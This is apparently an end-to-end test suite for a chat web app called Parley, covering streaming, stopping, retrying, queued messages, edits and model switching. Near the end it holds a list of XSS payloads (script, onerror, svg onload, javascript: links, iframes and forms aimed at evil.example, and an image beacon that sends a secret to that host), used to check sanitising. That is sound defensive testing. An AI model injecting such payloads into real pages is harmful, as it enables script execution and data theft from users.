import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { chunk, done, sse } from "../../simulators/gateway/corpus-row.ts";
import type { ScriptedAnswer } from "../../simulators/gateway/scripted-gateway.ts";
import { has } from "../../support/requirements.ts";
import { bytesOfFolder, holds } from "../../support/store-bytes.ts";
import { answerAfter, attach, field, say, send } from "./page-story.ts";
import { hanging, usePage, useScriptedPage, whole } from "./use-page.ts";

const bubbles = (page: Page) => page.locator(".bubble").allInnerTexts();
const answers = (page: Page) => page.locator(".from-parley.is-finished");
const stop = (page: Page) => page.getByRole("button", { name: "Stop the answer" });

describe.skipIf(!has("chromium"))("an answer on the page", () => {
  const { story, script } = useScriptedPage();

  it("is shown as it arrives; Stop keeps the words and does not record when it is clicked twice", async () => {
    script.answer(hanging("First paragraph.\n\nSecond par"), whole("Again."));
    const { page } = await story.open();
    await send(page, "Tell me");
    await page.getByText("Second par").waitFor();
    expect(await page.locator(".from-parley.is-growing").count()).toBe(1);
    const box = (await stop(page).boundingBox())!;
    const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
    await page.mouse.click(x, y);
    await stop(page).waitFor({ state: "detached" });
    await page.mouse.click(x, y);
    const stopped = await answerAfter(page, 0);
    expect(stopped).toContain("Stopped.");
    expect(stopped).toContain("Second par");
    expect(await page.getByRole("button", { name: "Cancel" }).count()).toBe(0);
    await expect.poll(() => field(page).isVisible()).toBe(true);
    expect(await say(page, "Once more")).toContain("Again.");
  });

  it("that failed says why, and is replaced on Retry, also after a reload", async () => {
    const refusal: ScriptedAnswer = {
      status: 401,
      body: JSON.stringify({ error: { message: "bad key", type: "x", param: null, code: null } }),
    };
    script.answer(refusal, refusal, whole("Now it works."));
    const { page } = await story.open();
    expect(await say(page, "Are you there?")).toContain("does not accept Parley's key");
    await page.getByRole("button", { name: "Retry" }).click();
    await expect.poll(() => script.left()).toBe(1);
    await page.getByRole("button", { name: "Retry" }).waitFor();
    await page.reload();
    await page.getByRole("button", { name: "Retry" }).click();
    await page.locator(".markdown", { hasText: "Now it works." }).waitFor();
    for (const isReloaded of [false, true]) {
      if (isReloaded) await page.reload();
      await page.locator(".markdown", { hasText: "Now it works." }).waitFor();
      expect(await page.locator(".message").count()).toBe(2);
      expect(await page.getByRole("button", { name: "Retry" }).count()).toBe(0);
    }
  });

  it("is one to all messages sent meanwhile; each waits visibly, is shown once and can be taken back", async () => {
    script.answer(hanging("It goes on"), whole("Both heard."));
    const { page } = await story.open();
    await send(page, "One");
    await page.getByText("It goes on").waitFor();
    for (const text of ["Two", "Three", "Four"]) {
      await send(page, text);
      await page.locator(".from-user", { hasText: text }).getByText("Waits for the answer above").waitFor();
    }
    const last = page.locator(".from-user", { hasText: "Four" });
    await last.getByRole("button", { name: "Take back" }).click();
    await last.waitFor({ state: "detached" });
    await expect.poll(() => field(page).inputValue()).toBe("Four");
    await stop(page).click();
    await page.locator(".markdown", { hasText: "Both heard." }).waitFor();
    await answerAfter(page, 1);
    expect(await page.getByText("Waits for the answer above").count()).toBe(0);
    expect(await page.getByRole("button", { name: "Take back" }).count()).toBe(0);
    const texts = () => page.locator(".bubble, .markdown").allInnerTexts();
    expect(await texts()).toEqual(["One", "It goes on", "Two", "Three", "Both heard."]);
    await page.reload();
    await expect.poll(texts).toEqual(["One", "It goes on", "Two", "Three", "Both heard."]);
  });

  it("is made anew in the same place by Regenerate, the last one only, and joined to the rest by Continue", async () => {
    script.answer(
      hanging("Half of an answer"),
      whole("A whole answer."),
      sse(chunk({ content: "One two thr" }), chunk({}, "length"), done),
      whole("ee four."),
    );
    const { page, problems } = await story.open();
    await send(page, "Tell me");
    await page.getByText("Half of an answer").waitFor();
    await stop(page).click();
    expect(await answerAfter(page, 0)).toContain("Stopped.");
    await page.getByRole("button", { name: "Regenerate" }).click();
    await page.locator(".from-parley").getByText("A whole answer.").waitFor();
    expect(await answerAfter(page, 0)).not.toContain("Half");
    expect(await page.locator(".from-parley").count()).toBe(1);

    expect(await say(page, "Count")).toContain("length limit");
    expect(script.asked.at(-1)).toContain("A whole answer.");
    expect(script.asked.at(-1)).not.toContain("Half");
    await page.getByRole("button", { name: "Continue" }).click();
    await page.locator(".from-parley").getByText("One two three four.").waitFor();
    expect(await answerAfter(page, 1)).not.toContain("length limit");
    expect(await page.getByRole("button", { name: "Continue" }).count()).toBe(0);

    // The earlier answer can no longer be changed.
    for (const name of ["Regenerate", "Other model"])
      expect(await page.getByRole("button", { name }).count()).toBe(1);
    expect(problems.filter((problem) => !/4\d\d/.test(problem))).toEqual([]);
  });

  // Attack: Script in a model's answer.
  it("sanitises hostile Markdown", async () => {
    script.answer(whole(hostile));
    const { page, problems } = await story.open();
    await say(page, "Attack me.");
    const answer = page.locator(".from-parley .markdown");
    await answer.getByText("click me").waitFor();
    expect(await page.evaluate("window.pwned")).toBeUndefined();
    const forbidden = "script, style, iframe, form, input, svg, img, [style], [onerror], [onload], [id]";
    expect(await answer.locator(forbidden).count()).toBe(0);
    const links = await answer
      .locator("a[href]")
      .evaluateAll((all) =>
        all.map((link) => ["href", "target", "rel"].map((name) => link.getAttribute(name))),
      );
    const safe = ["_blank", "noopener noreferrer nofollow"];
    expect(links).toEqual([
      ["https://example.org/page", ...safe],
      ["https://evil.example/pixel.png?secret=1", ...safe],
    ]);
    await expect.poll(() => answer.innerText()).toContain("Picture: beacon (evil.example)");
    // Raw HTML is shown as text.
    await expect.poll(() => answer.innerText()).toContain('<img src="/nothing" onerror="window.pwned = 2">');
    await expect
      .poll(() => answer.locator("code").innerText())
      .toContain("<script>window.pwned = 6</script>");
    // There is no request to another host, and no policy violation.
    expect(problems).toEqual([]);
  });
});

describe.skipIf(!has("chromium"))("what is sent on the page", () => {
  const { story, script } = useScriptedPage();

  it("is sent although it was typed and entered while the message before it was on its way", async () => {
    script.answer(whole("The first."), whole("The second."));
    const { page } = await story.open();
    const held: (() => void)[] = [];
    await page.route("**/messages", async (route) => {
      if (held.length === 0) await new Promise<void>((resolve) => held.push(resolve));
      await route.fallback();
    });
    await send(page, "A first message");
    await expect.poll(() => held.length).toBe(1);
    await send(page, "A second message");
    held[0]?.();
    await page.locator(".bubble", { hasText: "A second message" }).waitFor();
    await expect.poll(() => bubbles(page)).toEqual(["A first message", "A second message"]);
    await expect.poll(() => field(page).inputValue()).toBe("");
  });

  it("waits in the field below the one before it, without what is typed on after Enter", async () => {
    script.answer(whole("The first."), whole("The second."));
    const { page } = await story.open();
    const held: (() => void)[] = [];
    await page.route("**/messages", async (route) => {
      await new Promise<void>((resolve) => held.push(resolve));
      await route.fallback();
    });
    await send(page, "One");
    await expect.poll(() => held.length).toBe(1);
    await field(page).press("End");
    await page.keyboard.type(" and two");
    await page.keyboard.press("Enter");
    await page.keyboard.type(" and three");
    held[0]?.();
    await expect.poll(() => held.length).toBe(2);
    await expect.poll(() => field(page).inputValue()).toBe(" and two and three");
    held[1]?.();
    await expect.poll(() => bubbles(page)).toEqual(["One", "and two"]);
    await expect.poll(() => field(page).inputValue()).toBe(" and three");
    // The one that was taken in is not sent again with the same id, wherever the person was meanwhile.
    expect(await page.evaluate<string>("JSON.stringify({ ...sessionStorage })")).not.toContain("and two");
  });

  it("is answered once when it is sent again because the response to the first attempt was lost", async () => {
    script.answer(whole("Heard once."), whole("Something else."), whole("Asked again."));
    const { page } = await story.open();
    let attempts = 0;
    await page.route("**/messages", async (route) => {
      attempts += 1;
      if (attempts > 1) return await route.fallback();
      await route.fetch();
      await route.abort();
    });
    await send(page, "Do you hear me?");
    await page.getByRole("alert").getByText("Parley cannot be reached.").waitFor();
    // A reload keeps the draft, and what is known of its first attempt.
    await page.reload();
    await expect.poll(() => field(page).inputValue()).toBe("Do you hear me?");
    await field(page).press("Enter");
    await expect.poll(() => field(page).inputValue()).toBe("");
    expect(attempts).toBe(2);
    expect(await answerAfter(page, 0)).toContain("Heard once.");
    expect(await say(page, "Go on")).toContain("Something else.");
    // The same words, typed anew, are another message.
    expect(await say(page, "Do you hear me?")).toContain("Asked again.");
    expect(await bubbles(page)).toEqual(["Do you hear me?", "Go on", "Do you hear me?"]);
  });

  it("is in the field again with its file when it was taken back and the response was lost", async () => {
    script.answer(hanging("It goes on"));
    const { page } = await story.open();
    await send(page, "One");
    await page.getByText("It goes on").waitFor();
    await attach(page, "picture.png");
    await send(page, "Two");
    const waiting = page.locator(".from-user", { hasText: "Two" });
    await waiting.getByText("Waits for the answer above").waitFor();
    await expect.poll(() => field(page).inputValue()).toBe("");
    await page.route("**/take-back", async (route) => {
      await route.fetch();
      await route.abort();
    });
    await waiting.getByRole("button", { name: "Take back" }).click();
    await waiting.waitFor({ state: "detached" });
    await expect.poll(() => field(page).inputValue()).toBe("Two");
    await page.getByRole("list", { name: "Files to send" }).getByText("picture.png").waitFor();
    await stop(page).click();
  });

  it("is kept while Parley is unreachable, which the page says until it is back", async () => {
    script.answer(whole("Hello."), whole("Back."));
    const { page } = await story.open();
    await say(page, "Hello");
    await story.stop();
    const notice = page.getByText("Parley cannot be reached. Trying again…");
    await notice.waitFor();
    await send(page, "Still there?");
    await page.getByText("Your message has not been sent.").waitFor();
    expect(await page.getByText("Parley cannot be reached.").count()).toBe(1);
    expect(await field(page).inputValue()).toBe("Still there?");
    await story.start();
    await notice.waitFor({ state: "detached" });
    await field(page).press("Enter");
    expect(await answerAfter(page, 1)).toContain("Back.");
    expect(await page.locator(".message").count()).toBe(4);
  });

  it("is answered after an outage of which no trace is left", async () => {
    script.answer(hanging("It goes on"), whole("Here again."));
    const { page } = await story.open();
    await send(page, "Go on");
    await page.getByText("It goes on").waitFor();
    await story.stop();
    await story.start();
    await page.locator(".markdown", { hasText: "Here again." }).waitFor();
    await expect.poll(() => page.getByText("cannot be reached").count()).toBe(0);
    expect(await page.locator(".message").count()).toBe(2);
  });
});

const modalities = (input: readonly string[]) => ({
  object: "model",
  created: 1,
  owned_by: "test",
  architecture: { input_modalities: input, output_modalities: ["text"] },
});

describe.skipIf(!has("chromium"))("Regenerate with another model", () => {
  const { story, script } = useScriptedPage({
    settings: { CHAT_MODEL: "usual" },
    list: JSON.stringify({
      object: "list",
      data: [
        { id: "usual", ...modalities(["text", "image"]) },
        { id: "large", ...modalities(["text", "image"]) },
        { id: "blind", ...modalities(["text"]) },
      ],
    }),
  });

  it("offers those that can take what is shown, and answers in the same place; Details name the model", async () => {
    script.answer(whole("By the usual one."), whole("By the large one."), whole("A picture."));
    const { page, problems } = await story.open();
    await say(page, "Why?");
    await page.getByRole("button", { name: "Other model" }).click();
    const choice = page.getByLabel("Model", { exact: true });
    await choice.waitFor();
    const offered = () => choice.locator("option").allInnerTexts();
    await expect.poll(offered).toEqual(["Choose…", "large", "blind"]);
    // Nothing is chosen, and the browser says so.
    await page.getByRole("button", { name: "Get a new answer" }).click();
    expect(await page.locator("select:invalid").count()).toBe(1);
    await choice.selectOption("large");
    await page.getByRole("button", { name: "Get a new answer" }).click();
    await page.locator(".from-parley").getByText("By the large one.").waitFor();
    await answerAfter(page, 0);
    expect(await page.locator(".from-parley").count()).toBe(1);
    await page.getByRole("button", { name: "Details" }).click();
    await page.locator(".told").getByText("large").waitFor();
    await page.locator(".told time").waitFor();
    // Nothing but Details says so, and every button has its name on hover.
    expect(await page.locator(".foot").getByText("large").count()).toBe(0);
    for (const button of await page.locator(".foot button").all())
      expect(await button.getAttribute("title")).not.toBe("");

    await attach(page, "picture.png");
    await say(page, "What is this?");
    await page.getByRole("button", { name: "Other model" }).last().click();
    await choice.waitFor();
    await expect.poll(offered).toEqual(["Choose…", "large"]);
    const models = script.asked.map((body) => (JSON.parse(body) as { model: string }).model);
    expect(models).toEqual(["usual", "large", "usual"]);
    expect(problems).toEqual([]);
  });
});

async function edit(page: Page, question: string, text: string): Promise<void> {
  const message = page.locator(".from-user", { hasText: question });
  await message.hover();
  await message.getByRole("button", { name: "Edit" }).click();
  await page.getByRole("textbox", { name: "Edit question" }).fill(text);
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("textbox", { name: "Edit question" }).waitFor({ state: "detached" });
}

describe.skipIf(!has("chromium"))("questions that are edited on the page", () => {
  const story = usePage();

  it("are answered anew in the same place, an older one changes only; the store forgets the words", async () => {
    const { page, problems } = await story.open();
    await say(page, "My parrot is called Juniper.");
    expect(await say(page, "My password is swordfish-4711.")).toContain("swordfish-4711");
    await edit(page, "swordfish-4711", "My bird is a macaw.");
    await answers(page).nth(1).getByText("My bird is a macaw.").waitFor();
    expect(await bubbles(page)).toEqual(["My parrot is called Juniper.", "My bird is a macaw."]);
    expect(await answers(page).count()).toBe(2);
    await edit(page, "Juniper", "My parrot is called Pollux.");
    expect(await bubbles(page)).toEqual(["My parrot is called Pollux.", "My bird is a macaw."]);
    expect(await say(page, "What did I say first?")).toContain("My parrot is called Pollux.");
    const shown = await page.locator(".messages").innerText();
    await page.reload();
    await answers(page).nth(2).waitFor();
    await expect.poll(() => page.locator(".messages").innerText()).toBe(shown);
    const bytes = await bytesOfFolder(story.folder);
    for (const gone of ["swordfish-4711", "Juniper is"]) expect(holds(bytes, gone)).toBe(false);
    expect(problems).toEqual([]);
  });

  it("show what another tab has changed them to since, however late the response of Save comes", async () => {
    const { page } = await story.open();
    await say(page, "My ship is a sloop.");
    const other = await page.context().newPage();
    await other.goto(page.url());
    await other.locator(".bubble", { hasText: "sloop" }).waitFor();
    let release = (): void => undefined;
    const isReleased = new Promise<void>((resolve) => (release = resolve));
    await page.route("**/edit", async (route) => {
      const response = await route.fetch();
      await isReleased;
      await route.fulfill({ response });
    });
    const saved = edit(page, "sloop", "My ship is a ketch.");
    await other.locator(".bubble", { hasText: "ketch" }).waitFor();
    await edit(other, "ketch", "My ship is a yawl.");
    await answers(other).getByText("My ship is a yawl.").waitFor();
    // The whole page is searched, since the editor is still open.
    await answers(page).getByText("My ship is a yawl.").waitFor();
    release();
    await saved;
    expect(await bubbles(page)).toEqual(["My ship is a yawl."]);
  });

  it("are no commands, and offer no Edit where they were", async () => {
    const { page } = await story.open();
    await say(page, "/models");
    expect(await page.getByRole("button", { name: "Edit" }).count()).toBe(0);
    await say(page, "Hello.");
    await page.getByRole("button", { name: "Edit" }).click();
    await page.getByRole("textbox", { name: "Edit question" }).fill("/forget");
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByText("Commands are not edited.").waitFor();
    await page.getByRole("button", { name: "Cancel" }).click();
    expect(await bubbles(page)).toEqual(["/models", "Hello."]);
  });
});

describe.skipIf(!has("chromium"))("questions that are edited while they are answered", () => {
  const { story, script } = useScriptedPage();

  it("stop that answer, also on a phone and by keyboard", async () => {
    script.answer(hanging("A beginning"), whole("To two."));
    const { page, problems } = await story.open({ viewport: { width: 360, height: 700 }, hasTouch: true });
    // Enter makes a new line on a touch screen.
    await field(page).fill("Count slowly to one.");
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await page.getByText("A beginning").waitFor();
    await page.getByRole("button", { name: "Edit" }).press("Enter");
    const editor = page.getByRole("textbox", { name: "Edit question" });
    await expect.poll(() => editor.evaluate((one) => one.matches(":focus"))).toBe(true);
    await editor.fill("Count slowly to two.");
    await editor.press("Control+Enter");
    await answers(page).first().getByText("To two.").waitFor();
    expect(await page.locator(".from-parley").count()).toBe(1);
    await page.getByRole("button", { name: "Edit" }).press("Enter");
    await editor.press("Escape");
    expect(await bubbles(page)).toEqual(["Count slowly to two."]);
    const width = await page.locator("html").evaluate((element) => element.scrollWidth);
    expect(width).toBeLessThanOrEqual(360);
    expect(problems).toEqual([]);
  });
});

const hostile = `
<script>window.pwned = 1</script>
<img src="/nothing" onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="a"><button>Go</button></form>
<style>body { display: none }</style>
<p style="position:fixed;inset:0" class="drop-overlay" id="app">styled</p>

[click me](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>)
[inside](/api/logout) [fine](https://example.org/page)

![beacon](https://evil.example/pixel.png?secret=1)
<img src="https://evil.example/raw.png" alt="raw">

\`\`\`html
<script>window.pwned = 6</script>
\`\`\`
`;
